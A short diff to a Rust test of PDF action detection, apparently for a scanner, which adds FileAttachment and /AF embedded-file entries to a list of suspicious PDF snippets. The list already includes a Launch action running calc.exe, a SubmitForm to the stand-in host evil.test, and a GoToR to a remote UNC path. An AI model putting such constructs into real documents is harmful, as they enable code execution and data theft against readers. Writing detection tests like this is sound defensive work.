@@ -655,6 +655,9 @@ fn actions_of_a_pdf() {
         "/OpenAction << /S\n/Launch /F (calc.exe) >>",
         "/AA<</O<</S/SubmitForm/F(http://evil.test/)>>>>",
         "/Names<</EmbeddedFiles 5 0 R>>",
+        // From a review: `/Type/EmbeddedFile` may be left out.
+        "/Annots[<</Subtype/FileAttachment/FS 6 0 R>>]",
+        "/AF[<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>]",
         "/Names<</JavaScript 5 0 R>>",
         "/A<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>",
         "/A<</S/GoToE>>",
